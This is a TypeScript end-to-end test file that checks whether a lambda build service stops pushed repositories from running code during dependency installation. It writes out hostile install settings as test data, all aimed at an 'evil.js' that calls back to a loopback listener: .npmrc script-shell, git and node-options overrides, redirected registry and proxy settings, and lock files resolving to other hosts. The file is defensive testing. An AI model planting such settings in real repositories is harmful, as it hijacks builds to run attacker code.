// End to end: nothing a pushed repository says makes the dependency install run its code, on the host or
// anywhere with the host's network or privileges, or reach anything but the registry. Each case pushes a repository
// whose evil.js, if it ever ran, would write a marker on the host and call a TCP server this test listens on.
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { randomBytes } from 'node:crypto';
import test, { type ExecutionContext } from 'ava';
import { fixture, requireDocker, startLambda, type Lambda } from '../helpers/lambda.js';

let lambda: Lambda;
let listener: net.Server;
let port = 0;
/** What reached the test's TCP server on 127.0.0.1 (an evil.js that ran would say its uid). */
const reached: string[] = [];

test.before(async () => {
  await requireDocker();
  lambda = await startLambda();
  listener = net.createServer((socket) => {
    let said = '';
    socket.on('data', (chunk: Buffer) => (said += chunk.toString()));
    socket.on('close', () => reached.push(said || '(connected)'));
    socket.on('error', () => {});
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  port = (listener.address() as net.AddressInfo).port;
});

test.after.always(async () => {
  listener?.close();
  await lambda?.destroy();
});

function evilScript(marker: string): string {
  return [
    '#!/usr/bin/env node',
    "const fs = require('fs');",
    "const net = require('net');",
    `try { fs.writeFileSync(${JSON.stringify(marker)}, 'uid=' + process.getuid()); } catch {}`,
    `const socket = net.connect(${port}, '127.0.0.1', () => socket.end('evil.js ran as uid=' + process.getuid()));`,
    "socket.on('error', () => {});",
    'setTimeout(() => process.exit(0), 2000);',
    '',
  ].join('\n');
}

interface Attack {
  /** Files added to the hostile-install fixture; `${PORT}` and `${MARKER}` are filled in. */
  files: Record<string, string>;
  /** Whether the push still deploys (the hostile settings are simply ignored) or fails (what it asked for is refused). */
  deploys: boolean;
  /** Something the build output must say. */
  says?: RegExp;
}

const PACKAGE = JSON.parse(fs.readFileSync(path.join(fixture('hostile-install'), 'package.json'), 'utf8')) as Record<string, unknown>;
const withDependency = (name: string, spec: string) => JSON.stringify({ ...PACKAGE, dependencies: { 'is-number': '7.0.0', [name]: spec } });

async function assertNothingRan(t: ExecutionContext, marker: string) {
  // Give a straggler the time it would need to call back.
  await new Promise((resolve) => setTimeout(resolve, 300));
  t.deepEqual(reached, [], 'nothing from the pushed repository reached a service on the host loopback');
  t.false(fs.existsSync(marker), 'nothing from the pushed repository wrote on the host');
}

const attack = test.macro({
  async exec(t, spec: Attack) {
    reached.length = 0;
    const marker = path.join(os.tmpdir(), `lambda-evil-${randomBytes(6).toString('hex')}`);
    const fill = (text: string) => text.replaceAll('${PORT}', String(port)).replaceAll('${MARKER}', marker);
    const files: Record<string, string> = { 'evil.js': evilScript(marker) };
    for (const [file, text] of Object.entries(spec.files)) files[file] = fill(text);
    const name = `evil-${randomBytes(3).toString('hex')}`;
    const push = await lambda.push(name, fixture('hostile-install'), { files });
    try {
      if (spec.deploys) {
        t.is(push.code, 0, push.stderr);
        const invoked = await lambda.api(`/api/v1/functions/${name}/invoke`, { method: 'POST', body: '{"value":"7"}' });
        t.deepEqual(await invoked.json(), { isNumber: true });
      } else {
        t.not(push.code, 0);
        t.regex(push.stderr, /LAMBDA_ERR_BUILD_FAILED/);
      }
      if (spec.says) t.regex(push.stderr, spec.says);
      t.notRegex(push.stderr, /evil\.js ran/);
      await assertNothingRan(t, marker);
    } finally {
      fs.rmSync(marker, { force: true });
    }
  },
  title: (label = '') => `a repository cannot run its code or reach the host during the install: ${label}`,
});

test.serial('.npmrc git=evil.js with a git dependency', attack, {
  files: {
    '.npmrc': 'git=/var/task/evil.js\n',
    'package.json': withDependency('from-git', 'git+https://github.com/lambda-e2e/does-not-matter.git'),
  },
  deploys: false,
});

test.serial('.npmrc script-shell=evil.js with install scripts and ignore-scripts=false', attack, {
  files: { '.npmrc': 'ignore-scripts=false\nscript-shell=/var/task/evil.js\n' },
  deploys: true,
});

test.serial('.npmrc node-options=--require evil.js', attack, {
  files: { '.npmrc': 'ignore-scripts=false\nnode-options=--require /var/task/evil.js\n' },
  deploys: true,
});

test.serial('.npmrc pointing the registry, proxy and user config at the host loopback', attack, {
  files: {
    '.npmrc': 'registry=http://127.0.0.1:${PORT}/\nproxy=http://127.0.0.1:${PORT}/\nhttps-proxy=http://127.0.0.1:${PORT}/\nuserconfig=/var/task/evil.npmrc\n',
    'evil.npmrc': 'script-shell=/var/task/evil.js\nignore-scripts=false\n',
  },
  deploys: true,
});

test.serial('.yarnrc and package.json "config" asking for scripts', attack, {
  files: { '.yarnrc': 'ignore-scripts false\nscript-shell "/var/task/evil.js"\n' },
  deploys: true,
});

test.serial('a dependency fetched over http from the host loopback', attack, {
  files: { 'package.json': withDependency('from-loopback', 'http://127.0.0.1:${PORT}/evil.tgz') },
  deploys: false,
});

test.serial('a dependency fetched over https from the host loopback', attack, {
  files: { 'package.json': withDependency('from-loopback', 'https://127.0.0.1:${PORT}/evil.tgz') },
  deploys: false,
  says: /proxy: refused a connection to 127\.0\.0\.1:\d+: only registry\.npmjs\.org:443/,
});

test.serial('a lock file resolving a package to another host', attack, {
  files: {
    'package-lock.json': JSON.stringify({
      name: 'hostile-install',
      lockfileVersion: 3,
      requires: true,
      packages: {
        '': { name: 'hostile-install', dependencies: { 'is-number': '7.0.0' } },
        'node_modules/is-number': { version: '7.0.0', resolved: 'https://localhost:${PORT}/is-number-7.0.0.tgz' },
      },
    }),
  },
  deploys: false,
  says: /proxy: refused a connection to localhost:\d+/,
});
